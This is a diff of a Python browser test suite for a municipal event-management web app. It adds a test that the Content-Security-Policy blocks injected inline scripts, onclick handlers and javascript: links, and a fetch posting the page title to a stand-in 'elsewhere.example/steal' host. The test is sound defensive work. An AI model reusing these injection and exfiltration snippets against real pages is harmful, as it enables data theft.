@@ -657,7 +657,7 @@ def test_patrol_check_in_and_a_hazard_point_from_report_to_verification_on_a_pho
 
 
 def test_no_other_site_shows_the_app_in_a_frame(server, browser):
-    """Clickjacking (web/__init__.py SECURITY_HEADERS): a page of another site (http://elsewhere.example, answered
+    """Clickjacking (web/headers.py): a page of another site (http://elsewhere.example, answered
     by the test) that frames the app's sign-in page and a signed-in clerk's 待办 gets neither — Chromium refuses
     both frames — while the app's own pages open."""
     base, _app = server
@@ -674,3 +674,61 @@ def test_no_other_site_shows_the_app_in_a_frame(server, browser):
     for frame in frames.values():                                          # loaded (goto waits), and refused
         assert frame.url.startswith("chrome-error://"), frame.url
         assert frame.locator("input[name=username], header nav").count() == 0
+
+
+def test_the_pages_run_only_the_apps_own_scripts(server, browser):
+    """The Content-Security-Policy (web/headers.py): markup that slipped into a page — an inline script, an
+    `onclick=`, a `javascript:` link — does not run, and a page cannot send what it shows to another site; the
+    pages' own behaviours, wired from data attributes (web/static/ui.js), still work: 终止 asks first and a
+    "no" keeps the process running, 督办's status select sends its form, 打印 prints."""
+    from tests.web.client import Api
+    base, app = server
+    event = Api(app).report(description="占道经营")
+    owner = Person(browser, base, "owner1", DESK, ARTIFACTS / "csp")
+    page = owner.page
+    page.route("http://elsewhere.example/**", lambda route: route.fulfill(body="{}", content_type="application/json",
+                                                                           headers={"Access-Control-Allow-Origin": "*"}))
+    page.goto(f"/events/{event['id']}")
+    page.evaluate("""() => {
+        const script = document.createElement("script");
+        script.textContent = "window.__ran = 'inline script'";
+        document.body.append(script);
+        const button = document.createElement("button");
+        button.id = "injected-button";
+        button.textContent = "injected";
+        button.setAttribute("onclick", "window.__ran = 'onclick'");
+        document.body.append(button);
+        const link = document.createElement("a");
+        link.id = "injected-link";
+        link.textContent = "injected";
+        link.href = "javascript:window.__ran = 'javascript: link'";
+        document.body.append(link);
+    }""")
+    page.locator("#injected-button").click()
+    page.locator("#injected-link").click()
+    sent = page.evaluate("""() => fetch("http://elsewhere.example/steal", {method: "POST", body: document.title})
+                                    .then(() => "sent", () => "refused")""")
+    assert [page.evaluate("() => window.__ran === undefined"), sent] == [True, "refused"]
+    refused = "\n".join(browser.refused)
+    for said in ("Executing inline script", "Executing inline event handler", "Running the JavaScript URL",
+                 "Connecting to 'http://elsewhere.example/steal'"):
+        assert said in refused, refused
+    browser.refused.clear()                                        # provoked here (tests/browser/conftest.py)
+
+    panel = page.get_by_test_id("administer")
+    panel.get_by_label("理由").fill("误操作")
+    asked = []
+    page.once("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
+    panel.get_by_role("button", name="终止").click()
+    expect(panel.get_by_role("button", name="挂起")).to_be_visible()
+    assert asked == ["终止后不能恢复，确定终止？"]
+    assert Api(app).get(f"/api/events/{event['id']}", "owner1").get_json()["process"]["status"] == "running"
+
+    city = Person(browser, base, "city1", DESK, ARTIFACTS / "csp")
+    city.page.goto("/supervision")
+    city.page.get_by_label("状态").select_option("all")
+    city.page.wait_for_url("**/supervision?status=all")
+    city.page.goto("/monthly-report")
+    city.page.evaluate("() => { window.print = () => { window.__printed = true; }; }")
+    city.page.get_by_role("button", name="打印 / 存为 PDF").click()
+    assert city.page.evaluate("() => window.__printed === true")
